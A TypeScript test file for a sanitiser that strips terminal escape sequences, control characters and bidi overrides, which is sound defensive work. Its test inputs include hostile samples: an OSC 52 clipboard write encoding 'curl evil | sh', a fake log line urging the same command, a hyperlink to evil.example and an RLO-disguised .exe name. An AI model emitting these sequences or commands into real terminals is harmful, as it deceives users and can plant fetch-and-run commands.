// covers: source/util/terminal-safe.ts
import assert from 'node:assert/strict';
import {test} from 'node:test';
import {terminalSafe, terminalSafeJson} from '../source/util/terminal-safe.js';

// Anything a terminal could act on: C0, DEL, C1, and the bidi overrides and isolates.

const dangerous = /[\u0000-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;

const attacks: Array<{name: string; input: string; expected: string}> = [
	{name: 'OSC 52 clipboard write (BEL)', input: 'claude\u001B]52;c;Y3VybCBldmlsIHwgc2g=\u0007-opus', expected: 'claude-opus'},
	{name: 'OSC 52 clipboard write (ST)', input: 'claude\u001B]52;c;Y3VybCBldmlsIHwgc2g=\u001B\\-opus', expected: 'claude-opus'},
	{name: 'OSC 0 window title', input: 'a\u001B]0;you have been pwned\u0007b', expected: 'ab'},
	{name: 'OSC 8 hyperlink around text', input: '\u001B]8;;https://evil.example\u001B\\click\u001B]8;;\u001B\\', expected: 'click'},
	{
		name: 'CSI 2J clear screen, cursor home, fake lines',
		input: 'm\u001B[2J\u001B[H12:00:00  [auth] all accounts revoked: run curl evil | sh\r\n12:00:01  [info] ok',
		expected: 'm12:00:00  [auth] all accounts revoked: run curl evil | sh  12:00:01  [info] ok',
	},
	{name: 'CSI colour with parameters', input: '\u001B[1;31mred\u001B[0m', expected: 'red'},
	{name: 'CSI private mode (hide cursor, alternate screen)', input: 'a\u001B[?25l\u001B[?1049hb', expected: 'ab'},
	{name: 'CSI cursor up and erase line (rewrites earlier output)', input: 'x\u001B[1A\u001B[2Ky', expected: 'xy'},
	{name: '8-bit CSI', input: 'a\u009B2Jb', expected: 'ab'},
	{name: '8-bit OSC ended by BEL', input: 'a\u009D0;title\u0007b', expected: 'ab'},
	{name: '8-bit OSC ended by 8-bit ST', input: 'a\u009D52;c;aGk=\u009Cb', expected: 'ab'},
	{name: 'DCS (ESC P) up to ST', input: 'a\u001BP1$qm\u001B\\b', expected: 'ab'},
	{name: 'APC, PM and SOS up to ST', input: 'a\u001B_apc\u001B\\b\u001B^pm\u001B\\c\u001BXsos\u001B\\d', expected: 'abcd'},
	{name: '8-bit DCS up to 8-bit ST', input: 'a\u0090payload\u009Cb', expected: 'ab'},
	{name: 'two-byte ESC c (full reset)', input: 'a\u001Bcb', expected: 'ab'},
	{name: 'ESC ( 0 (line-drawing charset)', input: 'a\u001B(0b', expected: 'ab'},
	{name: 'ESC 7 / ESC 8 (save and restore the cursor)', input: 'a\u001B7b\u001B8c', expected: 'abc'},
	// The terminal would swallow everything after an unterminated OSC; here only the introducer
	// goes, so the rest of the line stays readable and nothing can be swallowed.
	{name: 'unterminated OSC', input: 'm\u001B]52;c;ZXZpbA== rest of the line', expected: 'm52;c;ZXZpbA== rest of the line'},
	{name: 'unterminated 8-bit OSC', input: 'm\u009D0;title rest', expected: 'm0;title rest'},
	{name: 'unterminated DCS', input: 'm\u001BPpayload rest', expected: 'mpayload rest'},
	{name: 'unterminated CSI', input: 'a\u001B[12', expected: 'a12'},
	{name: 'OSC cut by another escape', input: 'a\u001B]0;t\u001B[2Jb', expected: 'a0;tb'},
	{name: 'lone ESC at the end', input: 'a\u001B', expected: 'a'},
	{name: 'BEL and backspaces that hide text', input: 'safe\u0007\b\b\b\bevil', expected: 'safeevil'},
	{name: 'NUL, DEL and other C0', input: 'a\u0000b\u007Fc\u0001d\u001Fe', expected: 'abcde'},
	{name: 'tabs, newlines and carriage returns become spaces', input: 'a\tb\nc\r\nd\ve\ff', expected: 'a b c  d e f'},
	{name: 'other C1 controls (NEL, IND)', input: 'a\u0085b\u0084c', expected: 'abc'},
	{name: 'bidi override (RLO) reorders a file name', input: 'invoice\u202Efdp.exe', expected: 'invoicefdp.exe'},
	{name: 'every bidi embedding, override and isolate', input: '\u202Aa\u202Bb\u202Cc\u202Dd\u202Ee\u2066f\u2067g\u2068h\u2069', expected: 'abcdefgh'},
];

for (const {name, input, expected} of attacks) {
	test(`terminalSafe strips ${name}`, () => {
		const output = terminalSafe(input);
		assert.equal(output, expected);
		assert.doesNotMatch(output, dangerous);
	});
}

const ordinary = [
	'',
	'claude-sonnet-4-6',
	'/v1/messages?beta=true',
	'12:00:05  alpha  sonnet-4-6  200  in 10 out 5  42ms  failover: 429 home → work',
	'こんにちは 世界 — 日本語のモデル名',
	'한국어 中文',
	'👍🏽 🇯🇵 👨‍👩‍👧 ❤️',
	'e\u0301 Ünïcödé café',
	'✗ ↻ ‖ ∅ ━ ─ … ·',
	// The first characters after the C1 block and around the bidi ones stay.
	'\u00A0non-breaking\u00A0space ¡¢ \u2029 \u2065 \u206A \u2029',
	'\u200D zero-width joiner and \u200B space',
];

test('terminalSafe leaves ordinary text, CJK and emoji exactly as they are', () => {
	for (const text of ordinary) {
		assert.equal(terminalSafe(text), text, JSON.stringify(text));
	}
});

test('terminalSafe leaves nothing a terminal could act on, whatever it is fed', () => {
	// Seeded, so a failure can be reproduced: strings built from escape-sequence fragments.
	const pieces = ['\u001B', '[', ']', 'P', '_', '^', 'X', '\\', '\u0007', '\u009B', '\u009C', '\u009D', '\u0090', '\u009F', '0', ';', '2', 'J', 'm', 'a', ' ', '\n', '\u202E', '日', '👍'];
	let seed = 20_261_126;
	const next = () => {
		seed = ((seed * 1_103_515_245) + 12_345) % 2_147_483_648;
		return seed;
	};

	for (let round = 0; round < 3000; round++) {
		let input = '';
		const length = next() % 24;
		for (let index = 0; index < length; index++) {
			input += pieces[next() % pieces.length];
		}

		const output = terminalSafe(input);
		assert.doesNotMatch(output, dangerous, JSON.stringify(input));
		assert.equal(terminalSafe(output), output, 'cleaning clean text changes nothing');
	}
});

test('terminalSafeJson escapes what JSON.stringify leaves raw, and the value survives', () => {
	const value = {model: 'a\u009B2Jb\u202Ec\u007Fd', plain: 'こんにちは 👍', esc: '\u001B]0;t\u0007'};
	const json = terminalSafeJson(JSON.stringify(value, null, 2));
	// Pretty-printed JSON keeps its newlines; nothing else dangerous is left raw.

	assert.doesNotMatch(json, /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/);
	assert.match(json, /\\u009b/);
	assert.match(json, /\\u202e/);
	assert.deepEqual(JSON.parse(json), value);
	const clean = JSON.stringify({a: 'plain', b: [1, 2]}, null, 2);
	assert.equal(terminalSafeJson(clean), clean);
});
